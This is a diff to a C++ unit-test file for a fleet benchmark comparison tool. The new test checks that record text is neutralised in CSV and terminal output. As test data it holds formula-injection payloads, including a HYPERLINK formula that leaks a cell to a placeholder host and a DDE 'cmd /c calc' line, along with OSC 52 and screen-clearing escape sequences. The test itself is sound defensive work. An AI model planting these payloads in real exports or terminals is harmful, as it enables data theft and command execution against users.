@@ -31,10 +31,14 @@ class FleetCompareProgram : public ::testing::Test {
     }
     QString path(const QString& name) const { return dir.filePath(name); }
 
-    void addRecord(const QString& file, const QString& host, double ps) {
+    void addRecord(const QString& file, const QString& host, double ps,
+                   const QString& cpuModel = QString()) {
         QJsonObject record = pattern;
         record.insert("host", host);
         record.insert("ps_result", ps);
+        if (!cpuModel.isEmpty()) {
+            record.insert("cpu_model", cpuModel);
+        }
         QDir().mkpath(QFileInfo(path(file)).path());
         writeFile(path(file), QJsonDocument(record).toJson());
     }
@@ -85,7 +89,7 @@ TEST_F(FleetCompareProgram, BadInputIsNamedAndTheRestStillCounts) {
     const FleetResult result = runFleet(
         {"compare", "--format", "csv", path("fleet"), path("nothing-here"), path("locked.json")},
         fleetProgram(), 30000);
-    EXPECT_EQ(result.status, 2);
+    EXPECT_EQ(result.status, 7);
     const QString err = QString::fromUtf8(result.err);
     for (const QString& message :
          {path("fleet/notjson.json") + ": invalid record: not JSON",
@@ -104,6 +108,54 @@ TEST_F(FleetCompareProgram, BadInputIsNamedAndTheRestStillCounts) {
     }
     EXPECT_FALSE(err.contains("n0.log"));
     EXPECT_EQ(result.out.count('\n'), root ? 7 : 6) << "the good records are still compared";
+}
+
+// Text in a record (a CPU model) or a file's name is the writer's: in CSV it is no formula for a
+// spreadsheet, and in a table, in history or in a message it sends no control sequence to the
+// terminal (OSC 52 sets the clipboard, CSI 2J clears the screen).
+TEST_F(FleetCompareProgram, RecordTextActsNeitherInASpreadsheetNorInATerminal) {
+    const QString escapes = QStringLiteral("\x1b]52;c;ZXZpbA==\x07Xeon\x1b[2J\u009b0m\x7f\t.");
+    const std::pair<const char*, QString> models[] = {
+        {"f1", R"x(=HYPERLINK("http://x.example/"&A1,"open"))x"},
+        {"f2", "+1+cmd|' /c calc'!A0"},
+        {"f3", "@SUM(1)"},
+        {"f4", "-2+3"},
+        {"f5", "-3.2"},
+        {"f6", "\t=1"},
+        {"f7", "-1\n"},  // a number up to its line break only
+        {"e1", escapes}};
+    for (const auto& [host, model] : models) {
+        addRecord(QStringLiteral("fleet/%1.json").arg(host), host, 21.5, model);
+    }
+    writeFile(path("fleet/\x1b]0;title\x07.json"), "{");
+    const auto controls = [](const QByteArray& text) {
+        int count = 0;
+        for (int i = 0; i < text.size(); ++i) {
+            const auto c = static_cast<unsigned char>(text[i]);
+            const auto next = i + 1 < text.size() ? static_cast<unsigned char>(text[i + 1]) : 0;
+            count += (c < 0x20 && c != '\n' && c != '\t') || c == 0x7f ||
+                     (c == 0xc2 && next >= 0x80 && next <= 0x9f);  // C1, as UTF-8
+        }
+        return count;
+    };
+    const FleetResult csv = runFleet({"compare", "--format", "csv", path("fleet")});
+    for (const char* field :
+         {R"x(,"'=HYPERLINK(""http://x.example/""&A1,""open"")",)x", R"(,"'+1+cmd|' /c calc'!A0",)",
+          ",\"'@SUM(1)\",", ",\"'-2+3\",", ",\"'\t=1\",", ",\"'-1\n\",", ",-3.2,", ",-1.35,",
+          ",]52;c;ZXZpbA==Xeon[2J0m\t.,"}) {
+        EXPECT_TRUE(csv.out.contains(field)) << field;
+    }
+    const FleetResult table = runFleet({"compare", path("fleet")});
+    EXPECT_TRUE(table.out.contains("]52;c;ZXZpbA==Xeon[2J0m\t."));
+    const FleetResult history = runFleet({"history", "e1", path("fleet")});
+    EXPECT_TRUE(history.out.contains("segment 1: ]52;c;ZXZpbA==Xeon[2J0m\t., "));
+    for (const FleetResult& result :
+         {csv, table, history, runFleet({"history", "--format", "csv", "e1", path("fleet")})}) {
+        // Not printed on failure: the test's own log would carry the sequences.
+        EXPECT_EQ(controls(result.out), 0);
+        EXPECT_TRUE(result.err.contains("]0;title.json: invalid record"));
+        EXPECT_EQ(controls(result.err), 0);
+    }
 }
 
 }  // namespace
